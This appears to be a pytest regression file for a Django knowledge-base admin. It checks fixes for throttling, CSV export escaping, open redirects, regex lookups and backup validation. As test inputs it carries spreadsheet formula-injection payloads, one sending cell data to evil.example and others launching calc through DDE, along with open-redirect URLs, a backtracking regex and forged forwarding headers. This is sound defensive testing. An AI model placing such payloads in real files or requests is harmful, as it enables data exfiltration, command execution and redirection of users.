"""Defects the reliability probe of 2026-12 found (issue 17;
`reliability-2026-12.md`), each as the user met it: the login throttle behind the
proxy, officials too well cited to save, formulas in the CSV exports, deleted facts that
came back, a 500 on a huge participant id, regular expressions from the query string,
document texts edited under their highlights, backups holding values the model refuses,
and a refused `?next=` leading to a 404.
"""

import csv
import io
import json
import runpy
from io import StringIO
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.management import CommandError, call_command
from django.urls import reverse

from documents.models import Document, Evidence
from relations.models import Agreement, Meeting, Official, ReviewState
from tests.relations.test_admin import change_url, form_data
from tests.relations.test_roles import create_editor

pytestmark = pytest.mark.django_db

LOGIN = reverse("admin:login")
PASSWORD = "correct horse battery staple"
SETTINGS_FILE = Path(django_settings.BASE_DIR) / "relations" / "settings.py"


@pytest.fixture
def editor_client(client):
    editor = create_editor("ed", f"--password={PASSWORD}", "--no-input")
    client.force_login(editor)
    return client


def rendered_form_data(response) -> dict:
    """What a browser posts for the page's form: the fields the HTML holds, no others."""
    html = response.content.decode()
    data = form_data(response)
    return {k: v for k, v in data.items() if k == "_save" or f'name="{k}"' in html}


# ----------------------------------------------------------------- D2: throttle behind a proxy


@pytest.fixture
def behind_the_proxy(settings, monkeypatch):
    """The login settings as the settings module makes them with TLS_PROXY=1."""
    monkeypatch.setenv("TLS_PROXY", "1")
    proxied = runpy.run_path(str(SETTINGS_FILE))
    for name, value in proxied.items():
        if name.startswith("AXES_") or name == "SECURE_PROXY_SSL_HEADER":
            setattr(settings, name, value)
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def log_in_through_proxy(client, username, password, forwarded_for):
    """A login as the proxy passes it on: from the proxy's own address, the client's
    address appended to X-Forwarded-For (after whatever the client sent in it)."""
    return client.post(
        f"{LOGIN}?next=/admin/",
        {"username": username, "password": password},
        REMOTE_ADDR="127.0.0.1",
        HTTP_X_FORWARDED_FOR=forwarded_for,
        HTTP_X_FORWARDED_PROTO="https",
    )


def test_behind_the_proxy_one_client_failing_does_not_lock_out_the_others(
    client, behind_the_proxy, django_user_model
):
    django_user_model.objects.create_user("ed1", password=PASSWORD, is_staff=True)
    for n in range(5):
        log_in_through_proxy(client, f"nosuchuser{n}", "guess", "6.6.6.6")

    # The attacker is locked out, even forging another address in front of its own …
    assert log_in_through_proxy(client, "ed1", PASSWORD, "6.6.6.6").status_code == 429
    assert log_in_through_proxy(client, "ed1", PASSWORD, "7.7.7.7, 6.6.6.6").status_code == 429
    # … and the editor behind the same proxy is not.
    assert log_in_through_proxy(client, "ed1", PASSWORD, "7.7.7.7").status_code == 302


# ----------------------------------------------------------------- D3: well-cited officials


def test_an_official_with_hundreds_of_sentences_can_still_be_saved(editor_client):
    official = Official.objects.create(name="Prak Sokhonn")
    document = Document.objects.create(
        file_name="n.txt", sha256="a" * 64, title="Notes", text="Prak Sokhonn spoke. " * 700
    )
    Evidence.objects.bulk_create(
        Evidence(
            document=document,
            official=official,
            fingerprint="Prak Sokhonn",
            start=20 * i,
            end=20 * i + 12,
            quote="Prak Sokhonn",
            extractor_version="test",
        )
        for i in range(694)
    )
    page = editor_client.get(change_url(official))
    assert page.content.decode().count("Prak Sokhonn spoke") == 0  # sentences, not the text
    assert page.content.decode().count("“Prak Sokhonn”") == 694  # every sentence is listed
    data = rendered_form_data(page)
    data["name"] = "Prak Sokhonn (corrected)"

    response = editor_client.post(change_url(official), data)

    assert response.status_code == 302, response.status_code
    official.refresh_from_db()
    assert official.name == "Prak Sokhonn (corrected)"
    assert "name" in official.edited_fields
    assert official.evidence.count() == 694


# ----------------------------------------------------------------- D4: CSV formulas

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_cells(client, url) -> list[str]:
    response = client.get(url, {"format": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # the whole list, streamed
    rows = list(csv.reader(io.StringIO(body)))
    return [cell for row in rows[1:] for cell in row]


def test_the_csv_exports_carry_no_spreadsheet_formula(client):
    for name in FORMULAS:
        Official.objects.create(name=name)
    meeting = Meeting.objects.create(kind="summit", title="=1+1", location="=2+2")
    meeting.participations.create(official=Official.objects.get(name=FORMULAS[0]))
    Agreement.objects.create(kind="loan", title='=WEBSERVICE("http://evil.example")')

    cells = [
        *csv_cells(client, reverse("relations:officials")),
        *csv_cells(client, reverse("relations:meetings")),
        *csv_cells(client, reverse("relations:agreements")),
    ]

    assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []
    # The value is all there, behind the quote a spreadsheet shows as text.
    assert "'" + FORMULAS[0] in cells
    assert "'=1+1" in cells and "'=2+2" in cells
    assert any(c.startswith("'=HYPERLINK") for c in cells)


# ----------------------------------------------------------------- D7: deleting a fact


def test_an_editor_cannot_delete_a_fact_that_extraction_would_bring_back(editor_client):
    official = Official.objects.create(name="Chea Kimtha")
    delete = reverse("admin:relations_official_delete", args=[official.pk])

    page = editor_client.get(change_url(official)).content.decode()
    answer = editor_client.post(delete, {"post": "yes"})

    assert delete not in page  # no Delete link on the change form
    assert answer.status_code == 403
    assert Official.objects.filter(pk=official.pk).exists()


# ----------------------------------------------------------------- D10: huge ids


@pytest.mark.parametrize("value", ["9223372036854775808", "-9223372036854775809", "1" * 40])
def test_a_participant_id_beyond_any_integer_is_a_bad_request(client, value):
    response = client.get(reverse("relations:meetings"), {"participant": value})

    assert response.status_code == 400


# ----------------------------------------------------------------- D11: regex lookups


@pytest.mark.parametrize(
    "url",
    [
        "/admin/relations/official/?name__regex=%5C",
        "/admin/relations/official/?name__iregex=%5B%5D",
        "/admin/documents/document/?text__iregex=(",
        "/admin/documents/document/?title__regex=^Japan%20scheme%20(\\w%2B%20%3F)%2BX",
    ],
)
def test_admin_lists_refuse_regular_expressions_from_the_address(editor_client, url):
    Official.objects.create(name="Hun Sen")
    response = editor_client.get(url)

    # The admin's answer to a filter it does not take: the list, unfiltered, flagged ?e=1.
    assert response.status_code == 302
    assert response["Location"].endswith("?e=1")


# ----------------------------------------------------------------- D14: document text


def test_an_editor_cannot_change_a_document_text_under_its_highlights(editor_client):
    text = "Hun Manet met Kishida Fumio in Tokyo.\n"
    document = Document.objects.create(file_name="a.txt", sha256="b" * 64, title="A", text=text)
    official = Official.objects.create(name="Hun Manet")
    Evidence.objects.create(
        document=document,
        official=official,
        fingerprint="Hun Manet",
        start=0,
        end=9,
        quote="Hun Manet",
        extractor_version="test",
    )
    url = reverse("admin:documents_document_change", args=[document.pk])
    data = rendered_form_data(editor_client.get(url))
    data["text"] = "EDITOR NOTE: corrected transcript.\n\n" + text
    data["title"] = "A, retitled"

    response = editor_client.post(url, data)

    assert response.status_code == 302
    document.refresh_from_db()
    assert document.title == "A, retitled"
    assert document.text == text
    evidence = document.evidence.get()
    assert document.text[evidence.start : evidence.end] == evidence.quote


# ----------------------------------------------------------------- D15: backups


def restore(tmp_path, edit) -> None:
    Official.objects.create(name="Hun Sen")
    Official.objects.create(name="Kamikawa Yoko")
    path = tmp_path / "kb-backup.json"
    call_command("export_kb", backup=True, output=str(path), verbosity=0)
    backup = json.loads(path.read_text(encoding="utf-8"))
    edit(backup["backup"]["tables"])
    path.write_text(json.dumps(backup), encoding="utf-8")
    Official.objects.all().delete()
    call_command("import_kb", str(path), stdout=StringIO(), stderr=StringIO())


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("review_state", "bogus", "review_state"),
        ("edited_fields", "not-a-list", "edited_fields"),
        ("extracted_values", [1, 2], "extracted_values"),
    ],
)
def test_a_backup_with_values_the_model_refuses_is_refused(tmp_path, column, value, message):
    def spoil(tables):
        tables["officials"][0][column] = value

    with pytest.raises(CommandError, match=message):
        restore(tmp_path, spoil)
    assert not Official.objects.exists()


def test_a_good_backup_still_restores(tmp_path):
    restore(tmp_path, lambda tables: None)

    assert sorted(Official.objects.values_list("name", flat=True)) == ["Hun Sen", "Kamikawa Yoko"]
    assert set(Official.objects.values_list("review_state", flat=True)) == {ReviewState.EXTRACTED}


# ----------------------------------------------------------------- D16: ?next= refused


@pytest.mark.parametrize(
    "unsafe", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "javascript:x"]
)
def test_a_refused_next_lands_the_editor_on_the_admin_index(client, settings, unsafe):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    create_editor("ed", f"--password={PASSWORD}", "--no-input")

    response = client.post(
        LOGIN + "?next=" + unsafe, {"username": "ed", "password": PASSWORD, "next": unsafe}
    )

    assert response.status_code == 302
    assert response["Location"] == reverse("admin:index")
    assert client.get(response["Location"]).status_code == 200
